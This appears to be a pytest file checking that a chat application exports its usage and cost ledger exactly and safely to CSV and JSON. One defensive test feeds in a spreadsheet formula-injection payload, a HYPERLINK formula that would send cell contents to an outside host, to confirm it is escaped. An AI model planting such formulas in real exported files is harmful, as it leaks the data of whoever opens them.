"""The ledger as a file: every attempt once and every amount exact, or no file at all."""

import asyncio
import csv
import io
import json
import os
import sys
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from desktop_chat.domain.ledger import Outcome
from desktop_chat.domain.usage import Timing
from desktop_chat.storage import (
    DatabaseReadOnly,
    DatabaseUnavailable,
    DiskFull,
    ExportKind,
    Store,
    StoreClosed,
    export,
)
from tests.storage.samples import begun, enter_many, entry, opened

pytestmark = pytest.mark.anyio

KINDS: tuple[ExportKind, ...] = ("csv", "json")

FIRST = {
    "started_at": "2026-11-21T17:49:17.250Z",
    "endpoint": "Example",
    "endpoint_id": "e1",
    "dialect": "responses",
    "model": "m-1",
    "purpose": "chat",
    "chat": "Why",
    "conversation_id": "",
    "message_id": "m2",
    "attempt": 1,
    "request_id": "r1",
    "status": 200,
    "outcome": "ok",
    "error": None,
    "service_tier": "default",
    "first_token_seconds": 0.5,
    "duration_seconds": 2.5,
    "input_tokens": 10,
    "output_tokens": 20,
    "cached_tokens": 3,
    "reasoning_tokens": 4,
    "cache_write_tokens": 5,
    "expected_input_tokens": 9,
    "counted_by": "server",
    "cost_usd": "0.000123456789",
}


async def told(
    store: Store, path: Path, kind: ExportKind, *, since: float = 0, until: float = 1e12
) -> list[Any]:
    """What stands in the file, which has as many rows as was said."""
    number = await store.export_ledger(path, kind, since, until)
    if kind == "json":
        rows = json.loads(content(path))
    else:
        rows = list(csv.DictReader(io.StringIO(content(path).decode("utf-8-sig"), newline="")))
    assert len(rows) == number
    return list(rows)


def files(folder: Path) -> list[str]:
    """The names of all that an export left in the folder."""
    return sorted(path.name for path in folder.glob("*out*"))


def content(path: Path) -> bytes:
    return path.read_bytes()


def as_text(row: dict[str, Any]) -> dict[str, str]:
    return {name: "" if value is None else str(value) for name, value in row.items()}


async def test_each_attempt_is_a_row_with_every_column(tmp_path: Path) -> None:
    async with opened(tmp_path) as store:
        conversation, _, _ = await begun(store)
        at = 1_795_283_357.25
        ok = entry(conversation_id=conversation.id, started_at=at)
        await store.record_attempt(ok)
        failed = entry(
            started_at=at + 1, usage=None, cost=None, is_exact=False, status=None, outcome=Outcome.FAILED
        )
        await store.record_attempt(
            replace(failed, error_kind="CutOff", timing=Timing(None, 1.5), expected_input=None, model=None)
        )
        await store.record_attempt(entry(started_at=at - 1, cost=Decimal(0)))
        first = FIRST | {"conversation_id": conversation.id}
        found = await told(store, tmp_path / "out.json", "json", since=at)
        assert found[0] == first
        assert list(found[0]) == list(FIRST)
        nothing = ("model", "status", "first_token_seconds", "expected_input_tokens", "cost_usd")
        assert {name: value for name, value in found[1].items() if first[name] != value} == {
            **dict.fromkeys(nothing),
            **dict.fromkeys([name for name in FIRST if name.endswith("_tokens")]),
            **{"started_at": "2026-11-21T17:49:18.250Z", "chat": "", "conversation_id": "c1"},
            **{"outcome": "failed", "error": "CutOff", "duration_seconds": 1.5, "counted_by": "estimate"},
        }
        assert await told(store, tmp_path / "out.csv", "csv", since=at) == [as_text(row) for row in found]
        assert [row["cost_usd"] for row in await told(store, tmp_path / "out.csv", "csv")] == [
            "0",
            "0.000123456789",
            "",
        ]
        assert await told(store, tmp_path / "out.json", "json", until=at) == [
            FIRST
            | {"started_at": "2026-11-21T17:49:16.250Z", "chat": "", "conversation_id": "c1"}
            | {"cost_usd": "0"}
        ]


@pytest.mark.parametrize("kind", KINDS)
async def test_nothing_was_used_is_a_file_too(tmp_path: Path, kind: ExportKind) -> None:
    async with opened(tmp_path) as store:
        assert await told(store, tmp_path / "out", kind) == []


@pytest.mark.parametrize("kind", KINDS)
async def test_more_than_is_written_at_once(tmp_path: Path, kind: ExportKind) -> None:
    async with opened(tmp_path) as store:
        count = 2_500
        await enter_many(store, tmp_path, range(count))
        rows = await told(store, tmp_path / "out", kind)
        assert [row["started_at"] for row in rows] == sorted({row["started_at"] for row in rows})
        assert len(rows) == count


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
async def test_no_text_of_a_server_is_a_formula(tmp_path: Path, begin: str) -> None:
    evil = f'{begin}HYPERLINK("http://example.org/?"&A1,"x")'
    async with opened(tmp_path) as store:
        await store.record_attempt(entry(model=evil, request_id=evil, service_tier=evil, endpoint_name=evil))
        (row,) = await told(store, tmp_path / "out.csv", "csv")
        for name in ("model", "request_id", "service_tier", "endpoint"):
            assert row[name] == f"'{evil}"
        (row,) = await told(store, tmp_path / "out.json", "json")
        assert row["model"] == evil


@pytest.mark.parametrize("kind", KINDS)
async def test_any_text_comes_back(tmp_path: Path, kind: ExportKind) -> None:
    name = 'a "b", c;\r\nd\u2028é😀\x00'
    async with opened(tmp_path) as store:
        await store.record_attempt(entry(model=name))
        (row,) = await told(store, tmp_path / "out", kind)
        assert row["model"] == name


async def test_the_file_is_private_and_replaced_whole(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("older")
    async with opened(tmp_path) as store:
        await told(store, target, "csv")
    assert sys.platform == "win32" or target.stat().st_mode & 0o077 == 0
    assert files(tmp_path) == ["out.csv"]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no disk that is always full")
async def test_a_full_disk_leaves_what_was_there(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "out.csv"
    target.write_text("older")
    real = os.open

    def full(path: Path, flags: int, mode: int = 0o777) -> int:
        # The file is made, and what is written to it goes to the disk that is full.
        os.close(real(path, flags, mode))
        return real("/dev/full", os.O_WRONLY)

    async with opened(tmp_path) as store:
        await enter_many(store, tmp_path, range(3_000))
        monkeypatch.setattr(os, "open", full)
        with pytest.raises(DiskFull, match=r"No space left.*out\.csv") as caught:
            await store.export_ledger(target, "csv", 0, 1e12)
        monkeypatch.undo()
        assert caught.value.path == target
        assert await store.quick_check() == []
    assert target.read_text() == "older"
    assert files(tmp_path) == ["out.csv"]


@pytest.mark.parametrize("name", ["chats.db", "chats.db-wal", "../profile/chats.db"])
async def test_the_chats_are_not_written_over(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "profile"
    folder.mkdir()
    async with opened(folder) as store:
        await store.record_attempt(entry())
        with pytest.raises(DatabaseUnavailable) as told:
            await store.export_ledger(folder / name, "csv", 0, 1e10)
        assert told.value.path == folder / name
        assert len(await store.ledger(0, 1e10)) == 1


async def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
    async with opened(tmp_path) as store:
        with pytest.raises(DatabaseUnavailable, match="gone") as caught:
            await store.export_ledger(tmp_path / "gone" / "out.csv", "csv", 0, 1)
        assert caught.value.path == tmp_path / "gone" / "out.csv"


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no permission bits")
async def test_a_folder_that_cannot_be_written_is_told(ordinary_user: Path) -> None:
    folder = ordinary_user / "read-only"
    folder.mkdir(mode=0o500)
    async with opened(ordinary_user) as store:
        with pytest.raises(DatabaseReadOnly):
            await store.export_ledger(folder / "out.csv", "csv", 0, 1)


@pytest.mark.parametrize("end", ["cancelled", "closed"])
async def test_an_export_that_is_given_up_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, end: str
) -> None:
    reached, gate = asyncio.Event(), asyncio.Event()
    loop = asyncio.get_running_loop()
    store = await Store.open(tmp_path / "chats.db", tmp_path / "backups")
    await enter_many(store, tmp_path, range(3_000))
    first = export._told

    def held(*row: object) -> Any:
        if not reached.is_set():
            loop.call_soon_threadsafe(reached.set)
            asyncio.run_coroutine_threadsafe(gate.wait(), loop).result()
        return first(*row)  # type: ignore[arg-type]

    monkeypatch.setattr(export, "_told", held)
    exporting = asyncio.create_task(store.export_ledger(tmp_path / "out.csv", "csv", 0, 1e12))
    await reached.wait()
    assert len(files(tmp_path)) == 1
    if end == "cancelled":
        exporting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await exporting
        gate.set()
        # Ended by itself, not by closing.
        await asyncio.wait(store._thread._readings)
        await store.close()
    else:
        closing = asyncio.create_task(store.close())
        await asyncio.sleep(0)
        gate.set()
        with pytest.raises(StoreClosed):
            await exporting
        await closing
    assert files(tmp_path) == []
